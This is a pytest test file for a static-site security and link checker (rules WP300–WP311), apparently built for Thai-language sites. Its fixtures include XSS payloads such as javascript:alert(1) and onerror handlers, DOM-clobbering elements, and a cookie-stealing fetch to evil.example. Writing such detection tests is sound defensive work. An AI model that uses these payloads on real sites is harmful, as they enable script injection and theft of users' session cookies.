"""Output checks on a built site (WP300-WP305): one passing and one failing case each."""

from __future__ import annotations

import re
from pathlib import Path

import material
import pytest
from conftest import write

from webpub.site.output_checks import check_site

MATERIAL = Path(material.__file__).parent / "templates"


def page(body: str, head: str = "") -> str:
    return f'<!doctype html><html lang="th"><head>{head}</head><body>\n{body}\n</body></html>\n'


def rules(tmp_path: Path, files: dict[str, str]) -> list[str]:
    site = tmp_path / "site"
    for rel, text in files.items():
        write(site, rel, text)
    return [f.rule for f in check_site(site, tmp_path)]


def test_clean_site_has_no_findings(tmp_path):
    files = {
        "index.html": page('<a href="news/">ข่าว</a> <a href="news/#ข่าวล่าสุด">ล่าสุด</a> <a href="#top">บน</a>'
                           '<span id="top"></span><a href="https://www.example.go.th/">ภายนอก</a>',
                           '<link rel="stylesheet" href="assets/site.css">'),
        "news/index.html": page('<h2 id="ข่าวล่าสุด">ข่าวล่าสุด</h2><a href="../">หน้าแรก</a>'
                                '<a href="../files/a.pdf">แนบ</a>'),
        "files/a.pdf": "%PDF-1.4",
        "assets/site.css": '@font-face{src:url("fonts/x.woff2")}',
    }
    assert rules(tmp_path, files) == []


@pytest.mark.parametrize("html", [
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<form action="javascript:void(0)"></form>',
    '<A HREF="javascript:alert(1)">x</A>',
    '<p>İstanbul ẞ</p><a HREF="JavaScript:alert(1)">x</a>',  # lower() changes the length here
])
def test_javascript_urls_are_refused(tmp_path, html):
    assert "WP300" in rules(tmp_path, {"index.html": page(html)})


def test_inline_script_is_refused_but_theme_scripts_pass(tmp_path):
    theme = (MATERIAL / "partials" / "javascripts" / "base.html").read_text(encoding="utf-8")
    body = re.search(r"<script>(.*?)</script>", theme, re.S).group(1)
    rendered = re.sub(r"\{\{.*?\}\}", "../", body)
    ok = page(f"<script>{rendered}</script>"
              '<script id="__config" type="application/json">{"base": ".."}</script>')
    assert rules(tmp_path / "a", {"index.html": ok}) == []
    bad = page("<script>fetch('https://evil.example/'+document.cookie)</script>")
    assert rules(tmp_path / "b", {"index.html": bad}) == ["WP301"]


@pytest.mark.parametrize("head", [
    '<link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Sarabun">',
    '<script src="//cdn.example.com/x.js"></script>',
    '<style>@import "https://cdn.example.com/x.css";</style>',
    '<link rel="preconnect" href="https://fonts.gstatic.com">',
])
def test_outside_hosts_for_fonts_scripts_styles_are_refused(tmp_path, head):
    assert "WP302" in rules(tmp_path, {"index.html": page("", head)})


def test_outside_font_in_a_stylesheet_is_refused(tmp_path):
    files = {"index.html": page(""), "assets/x.css": "@font-face{src:url(https://fonts.gstatic.com/s/x.woff2)}"}
    assert rules(tmp_path, files) == ["WP302"]


def test_embedded_third_party_frame_is_refused(tmp_path):
    assert "WP302" in rules(tmp_path, {"index.html": page('<iframe src="https://maps.example.com/e"></iframe>')})


def test_broken_internal_link_is_reported_with_file_and_line(tmp_path):
    site = tmp_path / "site"
    write(site, "index.html", page('<p>x</p>\n<a href="news/missing/">ข่าว</a>'))
    [finding] = check_site(site, tmp_path)
    assert finding.rule == "WP303"
    assert finding.path == "site/index.html" and finding.line == 3
    assert "news/missing/" in finding.message and finding.hint


@pytest.mark.parametrize("before", ["", "<p>İİİ</p>"])
def test_link_case_and_line_survive_the_lower_cased_search(tmp_path, before):
    site = tmp_path / "site"
    write(site, "index.html", page(f'{before}<p>x</p>\n<A HREF="News/Missing/">ข่าว</A>'))
    [finding] = check_site(site, tmp_path)
    assert finding.rule == "WP303" and finding.line == 3
    assert "News/Missing/" in finding.message  # the value keeps its case


def test_broken_anchor_is_reported_and_thai_anchor_resolves(tmp_path):
    files = {
        "index.html": page('<a href="a/#ความเป็นมา">ok</a><a href="a/#%E0%B8%84%E0%B8%A7%E0%B8%B2%E0%B8%A1">no</a>'
                           '<a href="#nowhere">no</a>'),
        "a/index.html": page('<h2 id="ความเป็นมา">ความเป็นมา</h2>'),
    }
    assert rules(tmp_path, files) == ["WP304", "WP304"]


def test_event_handler_attributes_are_refused(tmp_path):
    assert rules(tmp_path, {"index.html": page('<img src="x.png" onerror="alert(1)">'
                                               )}).count("WP305") == 1


def test_checks_never_change_the_site(tmp_path):
    site = tmp_path / "site"
    write(site, "index.html", page('<a href="javascript:x">x</a>'))
    before = (site / "index.html").read_bytes()
    check_site(site, tmp_path)
    assert (site / "index.html").read_bytes() == before


def test_worker_processes_find_the_same_as_one_process(tmp_path):
    site = tmp_path / "site"
    for n in range(450):
        write(site, f"p{n}/index.html", page(f'<a href="../p{(n + 1) % 450}/">ถัดไป</a>'))
    write(site, "p7/index.html", page('<a href="../missing/">หาย</a><a href="javascript:x">x</a>'))
    one = check_site(site, tmp_path, jobs=1)
    two = check_site(site, tmp_path, jobs=2)
    assert one == two and [f.rule for f in two] == ["WP300", "WP303"]


# -- read as a browser reads: escaped text in code is text ----------------------
SHOWN_AS_TEXT = [
    "<code>&lt;a href='javascript:alert(1)'&gt;x&lt;/a&gt;</code>",
    "<pre><code>&lt;img src=x onerror=alert(1)&gt;\n&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
    '<pre><code><span class="nt">&lt;a</span> <span class="na">href=</span>'
    "<span class=\"s\">'javascript:alert(1)'</span> onclick='x'&gt;</code></pre>",
    "<p>href=javascript:alert(1) onload=alert(1) src=//evil.example/x.js</p>",
    "<abbr title=\"href='javascript:x' onclick='y'\">ก.พ.ร.</abbr>",
    "<p>id=\"__config\" style=\"background:url(//evil.example/x)\"</p>",
    "<!-- <script>alert(1)</script> <a href='javascript:x'> -->",
]


@pytest.mark.parametrize("html", SHOWN_AS_TEXT)
def test_hostile_html_shown_as_text_passes(tmp_path, html):
    assert rules(tmp_path, {"index.html": page(html)}) == []


@pytest.mark.parametrize("html, rule", [
    ('<a title="x>y" href="javascript:alert(1)">x</a>', "WP300"),
    ("<img src=x/onerror=alert(1)><img src=x onerror=alert(1)>", "WP305"),
    ("<p>a</p><textarea></textarea><img src=x onerror=alert(1)>", "WP305"),
    ('<div style="background:url(https://tracker.example/p.gif)">x</div>', "WP302"),
])
def test_real_markup_next_to_text_is_still_found(tmp_path, html, rule):
    assert rule in rules(tmp_path, {"index.html": page(html)})


def test_a_second_config_element_is_refused(tmp_path):
    theme = '<script id="__config" type="application/json">{"base": "."}</script>'
    assert rules(tmp_path / "a", {"index.html": page(theme)}) == []
    for clobber in ('<div id="__config" data-x="1"></div>', '<pre id="__config"><code>x</code></pre>',
                    '<img id="__drawer" src="a.png"><input type="checkbox" id="__drawer">'):
        site = {"index.html": page(clobber + theme), "a.png": "x"}
        assert rules(tmp_path / str(abs(hash(clobber))), site) == ["WP310"], clobber


def test_config_on_another_element_is_refused_even_alone(tmp_path):
    assert rules(tmp_path, {"index.html": page('<div id="__config">{}</div>')}) == ["WP310"]


@pytest.mark.parametrize("html", [
    '<img src="http://www.example.go.th/a.png" alt="">',
    '<img src="a.png" srcset="a.png 1x, http://cdn.example/b.png 2x" alt="">',
    '<video poster="http://x.example/p.jpg"></video>',
])
def test_media_over_http_is_mixed_content(tmp_path, html):
    assert "WP311" in rules(tmp_path, {"index.html": page(html), "a.png": "x"})


def test_media_over_https_and_links_over_http_pass(tmp_path):
    html = ('<img src="https://www.example.go.th/a.png" alt=""><a href="http://www.example.go.th/">เว็บ</a>'
            '<img src="a.png" alt="">')
    assert rules(tmp_path, {"index.html": page(html), "a.png": "x"}) == []


def test_links_that_are_not_loaded_may_be_http(tmp_path):
    html = '<link rel="canonical" href="http://www.example.go.th/"><link rel="alternate" href="http://x.example/feed">'
    assert rules(tmp_path, {"index.html": page("", html)}) == []
